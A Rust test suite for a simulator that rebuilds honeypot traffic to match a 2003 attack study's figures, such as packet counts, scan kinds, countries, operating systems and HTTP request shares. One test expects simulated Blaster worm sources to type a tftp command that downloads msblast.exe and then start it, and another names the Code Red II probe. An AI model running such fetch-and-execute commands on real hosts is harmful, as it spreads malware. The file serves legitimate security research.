//! The plan against the numbers that the paper prints, at scale 1, and its attackers' habits.

use std::collections::BTreeMap;

use serde_json::Value;

use super::*;
use crate::clock::DAY_US;
use crate::truth::{Rule, answers};

fn paper(scale: f64) -> (Scenario, Plan) {
    let scenario = Scenario::load("paper2003").unwrap();
    let plan = Plan::of(&scenario, scale, scenario.seed).unwrap();
    (scenario, plan)
}

fn check(row: &Value, key: &str, expected: f64, tolerance: f64) {
    let found = row[key].as_f64().unwrap_or(f64::NAN);
    assert!((found - expected).abs() <= tolerance, "{key} is {found}, not {expected}: {row}");
}

#[test]
fn the_papers_totals() {
    let (scenario, plan) = paper(1.0);
    let truth = answers(&scenario, &plan, Rule::Day);
    let overview = &truth["overview"][0];
    // 5.1 and 5.3.1 of the paper.
    check(overview, "packets", 3_028_316.0, 0.0);
    check(overview, "sources", 18_075.0, 0.0);
    check(overview, "ports", 188.0, 0.0);
    check(overview, "sequences", 470.0, 0.0);
    check(overview, "tcp_percent", 69.0, 0.05);
    check(overview, "udp_percent", 5.5, 0.05);
    check(overview, "icmp_percent", 25.5, 0.05);
    for (row, (hosts, percent)) in [(3.0, 69.0), (2.0, 5.5), (1.0, 25.5)].into_iter().enumerate() {
        check(&truth["hosts-reached"][row], "hosts", hosts, 0.0);
        check(&truth["hosts-reached"][row], "percent", percent, 0.05);
    }
    assert_eq!(plan.inbound(), 3_028_316);
    // Figure 8: the first came for mach2's 1433 after 17 days.
    let contacts = truth["first-contact"].as_array().unwrap();
    let sql = contacts.iter().find(|r| r["port"] == "1433").unwrap();
    check(sql, "days", 17.0, 0.0);
    assert!(sql["sources"].as_u64() > Some(5), "{sql}");
    assert!(contacts.iter().any(|r| r["first_hit"].is_null()), "one port is never found");
    let kinds: Vec<&str> =
        truth["kinds"].as_array().unwrap().iter().filter_map(|r| r["kind"].as_str()).collect();
    for kind in ["all-hosts", "partial", "backscatter", "focused", "other"] {
        assert!(kinds.contains(&kind), "{kind} is missing");
    }
    let styles: Vec<&str> =
        truth["logins"].as_array().unwrap().iter().filter_map(|r| r["style"].as_str()).collect();
    assert!(["robot", "dictionary", "hand"].iter().all(|s| styles.contains(s)), "{styles:?}");
    assert!(!truth["sequence-orders"].as_array().unwrap().is_empty());
    table_1(&scenario, truth["sequences"].as_array().unwrap());
}

/// Every cell within a tenth of a point, ranks as printed.
fn table_1(scenario: &Scenario, table: &[Value]) {
    for month in &scenario.study.as_ref().unwrap().month {
        let name = month.month.first.month();
        let found: Vec<&Value> = table.iter().filter(|r| r["month"] == name.as_str()).collect();
        assert_eq!(found.len(), 9, "eight rows and others in {name}");
        let mut rows: Vec<_> = month.row.iter().map(|r| (r.percent, r.sequence.to_string())).collect();
        rows.sort_by(|a, b| b.0.total_cmp(&a.0));
        for ((percent, sequence), row) in rows.iter().take(8).zip(&found) {
            assert_eq!(row["sequence"], sequence.as_str(), "{name}");
            check(row, "percent", percent * 100.0 / month.adds_to, 0.1);
        }
        let ninth: f64 = rows.iter().skip(8).map(|r| r.0).sum();
        if let Some(others) = month.others {
            check(found[8], "percent", (others + ninth) * 100.0 / month.adds_to, 0.1);
        }
    }
}

#[test]
fn every_seed_and_many_scales_add_up() {
    let scenario = Scenario::load("paper2003").unwrap();
    for (scale, seed) in [(0.02, 1), (0.05, 2), (0.1, 3), (0.3, 4), (0.1, 5), (2.0, 6)] {
        let plan = Plan::of(&scenario, scale, seed).unwrap_or_else(|e| panic!("{scale} {seed}: {e}"));
        assert_eq!(plan.inbound(), (3_028_316.0 * scale).round() as u64);
        assert_eq!(plan.sources.len() as u64, (18_075.0 * scale).round() as u64);
        let truth = answers(&scenario, &plan, Rule::Day);
        check(&truth["overview"][0], "udp_percent", 5.5, 0.05);
        check(&truth["first-contact"][0], "days", 17.0, 0.0);
    }
}

#[test]
fn blaster_comes_in_two_steps() {
    let (scenario, plan) = paper(0.3);
    let (first, second) = (Target::Tcp(135), Target::Tcp(4444));
    let blasters = plan.sources.iter().filter(|s| s.steps.iter().any(|t| t.target == second));
    let outbreak = Day::of(chrono::NaiveDate::from_ymd_opt(2003, 8, 11).unwrap());
    let mut seen = 0;
    for source in blasters {
        seen += 1;
        assert!(source.day >= outbreak);
        for step in source.steps.iter().filter(|t| t.target == second) {
            let talk = source.steps.iter().find(|t| t.host == step.host && t.target == first).unwrap();
            assert!(matches!(talk.act, Act::Talk(_)), "135 was open and answered");
            assert!(talk.tick(talk.packets - 1) < step.start, "and came first");
            assert_eq!(scenario.host[usize::from(step.host)].name, "mach1");
        }
    }
    assert!(seen > 100, "{seen}");
}

#[test]
fn steps_stand_in_order_within_their_day() {
    let (_, plan) = paper(0.3);
    for (slot, source) in plan.sources.iter().enumerate() {
        let ends = source.steps.windows(2).all(|w| w[0].tick(w[0].packets - 1) < w[1].start);
        assert!(ends, "steps overlap in {source:?}");
        let last = source.steps.last().map(|s| s.tick(s.packets - 1)).unwrap_or_default();
        for tick in [source.steps[0].start, last] {
            assert_eq!(Day::at(plan.clock.time_us(slot as u32, tick)), source.day);
        }
    }
}

#[test]
fn crossers_straddle_midnight() {
    let (_, plan) = paper(0.3);
    let mut by_ip: BTreeMap<Ipv4Addr, Vec<(i64, i64)>> = Default::default();
    for (slot, source) in plan.sources.iter().enumerate() {
        let time = |tick| plan.clock.time_us(slot as u32, tick);
        let last = source.steps.last().map(|s| s.tick(s.packets - 1)).unwrap_or_default();
        by_ip.entry(source.ip).or_default().push((time(source.steps[0].start), time(last)));
    }
    let near = |pair: &[(i64, i64)]| pair[1].0 - pair[0].1 < 250_000_000 && pair[1].0 % DAY_US < 125_000_000;
    let crossers = by_ip.values_mut().filter(|times| times.len() == 2 && near(times));
    assert!(crossers.count() >= 40);
}

#[test]
fn a_plan_that_cannot_be_is_refused_with_the_reason() {
    let mut scenario = Scenario::load("paper2003").unwrap();
    scenario.study.as_mut().unwrap().totals.packets = 20_000;
    let message = Plan::of(&scenario, 1.0, 1).unwrap_err().to_string();
    assert!(message.starts_with("scenario paper2003:") && message.contains("fewer"), "{message}");
    let message = Plan::of(&scenario, -1.0, 1).unwrap_err().to_string();
    assert!(message.contains("scale"), "{message}");
}

/// How often each key comes.
fn count<K: Ord>(keys: impl IntoIterator<Item = K>) -> BTreeMap<K, f64> {
    let mut counts = BTreeMap::new();
    keys.into_iter().for_each(|key| *counts.entry(key).or_default() += 1.0);
    counts
}

#[test]
fn every_month_has_its_places() {
    let (scenario, plan) = paper(1.0);
    let study = scenario.study.as_ref().unwrap();
    let truth = answers(&scenario, &plan, Rule::Day);
    for month in &study.month {
        let name = month.month.first.month();
        let mut planned: BTreeMap<&str, f64> = BTreeMap::new();
        for place in &study.place {
            *planned.entry(&place.country).or_default() += place.percent_in(&name);
        }
        let rows = truth["countries"].as_array().unwrap().iter().filter(|r| r["month"] == name.as_str());
        let rows: Vec<&Value> = rows.collect();
        assert_eq!(rows.len(), planned.len(), "{name}");
        for row in rows {
            // One source is a tenth of a percent of a small month.
            check(row, "percent", planned[row["country"].as_str().unwrap()], 0.1);
        }
    }
    // An address sits where it sits.
    let mut places = BTreeMap::new();
    assert!(plan.sources.iter().all(|s| *places.entry(s.ip).or_insert(s.place) == s.place));
}

#[test]
fn every_place_follows_its_curve() {
    let (scenario, plan) = paper(1.0);
    let study = scenario.study.as_ref().unwrap();
    let truth = answers(&scenario, &plan, Rule::Day);
    let rows = truth["local-hours"].as_array().unwrap();
    let mut places = 0;
    for place in study.place.iter().filter(|p| p.time_zone.is_some() && p.percent >= 2.0) {
        places += 1;
        let curve = study.curve(place).unwrap();
        let rows: Vec<&Value> = rows.iter().filter(|r| r["place"] == place.name().as_str()).collect();
        assert_eq!(rows.len(), 24, "{}", place.name());
        for (hour, row) in rows.into_iter().enumerate() {
            check(row, "hour", hour as f64, 0.0);
            check(row, "percent", curve[hour] * 100.0 / curve.iter().sum::<f64>(), 0.5);
        }
    }
    assert_eq!(places, 16);
    let mut sources =
        plan.sources.iter().filter(|s| s.place.is_none_or(|p| !study.place[usize::from(p)].is_known()));
    assert!(sources.next().is_some(), "some are in no database");
}

#[test]
fn addresses_run_what_was_planned() {
    let (scenario, plan) = paper(1.0);
    let truth = answers(&scenario, &plan, Rule::Day);
    let planned = count(scenario.systems().iter().map(|s| s.label.clone().unwrap_or("unknown".into())));
    let rows = truth["os"].as_array().unwrap();
    assert_eq!(rows.len(), planned.len());
    for system in scenario.systems() {
        let label = system.label.unwrap_or("unknown".into());
        let row = rows.iter().find(|r| r["os"] == label.as_str()).unwrap();
        check(row, "percent", system.percent, 0.02);
    }
    let mut systems = BTreeMap::new();
    assert!(plan.sources.iter().all(|s| *systems.entry(s.ip).or_insert(s.system) == s.system));
    // Blaster needs Windows 2000 or XP.
    let names: Vec<String> = scenario.systems().into_iter().map(|s| s.name).collect();
    let shells = plan.sources.iter().filter(|s| s.steps.iter().any(|t| t.target == Target::Tcp(4444)));
    assert!(shells.clone().count() > 1_000);
    let hosts = count(shells.map(|s| names[usize::from(s.system)].as_str()));
    assert_eq!(hosts.keys().copied().collect::<Vec<_>>(), ["Windows 2000", "Windows XP"]);
}

#[test]
fn worms_type_into_the_shell_that_they_opened() {
    let (_, plan) = paper(0.3);
    let mut seen = 0;
    for source in &plan.sources {
        for step in source.steps.iter().filter(|s| s.target == Target::Tcp(4444)) {
            let Act::Talk(talk) = &step.act else { continue };
            seen += 1;
            let said = |n: usize| String::from_utf8_lossy(&talk.lines[n].0).into_owned();
            assert_eq!(said(0), format!("tftp -i {} GET msblast.exe\n", source.ip));
            assert_eq!(said(1), "start msblast.exe\n");
            assert!(talk.lines.iter().all(|(_, reply)| reply.ends_with(b"C:\\WINNT\\system32>")));
        }
    }
    assert!(seen > 100, "{seen}");
}

/// What is typed, where sources sit and when they strike changes no count: the words' own rows apart, the answers of a
/// study without all that are the same.
#[test]
fn attackers_ways_change_no_other_answer() {
    let (scenario, plan) = paper(0.1);
    let mut plain = scenario.clone();
    let study = plain.study.as_mut().unwrap();
    (study.place, study.system, study.ftp) = (Vec::new(), Vec::new(), Vec::new());
    study.worm.iter_mut().for_each(|w| w.shell.clear());
    let old = Plan::of(&plain, 0.1, scenario.seed).unwrap();
    for rule in [Rule::Day, Rule::Gap] {
        let (with, without) = (answers(&scenario, &plan, rule), answers(&plain, &old, rule));
        let own = ["ftp-commands", "logins", "countries", "local-hours", "os", "processes"];
        for (question, rows) in without.iter().filter(|(q, _)| !own.contains(&q.as_str())) {
            assert_eq!(&with[question], rows, "{question} by {rule:?}");
        }
        assert_ne!(with["ftp-commands"], without["ftp-commands"]);
    }
}

#[test]
fn requests_have_their_shares() {
    let (scenario, plan) = paper(1.0);
    let truth = answers(&scenario, &plan, Rule::Day);
    let rows = truth["http-requests"].as_array().unwrap();
    let number = |row: &Value, key: &str| row[key].as_f64().unwrap();
    let total: f64 = rows.iter().map(|r| number(r, "requests")).sum();
    let of = |request: &str| {
        let all = rows.iter().filter(|r| r["request"] == request).map(|r| number(r, "requests"));
        all.sum::<f64>() * 100.0 / total
    };
    // Code Red II has a weight of 24 in 100; the target ends at its question mark.
    assert!((of("GET /default.ida") - 24.0).abs() < 3.0 && total > 1_000.0, "{total}");
    assert!(of("OPTIONS /") > 5.0 && of("GET http://www.example.com/") > 1.0);
    let march = rows.iter().filter(|r| r["month"] == "2003-03").map(|r| number(r, "percent"));
    assert!((march.sum::<f64>() - 100.0).abs() < 1e-9);
}
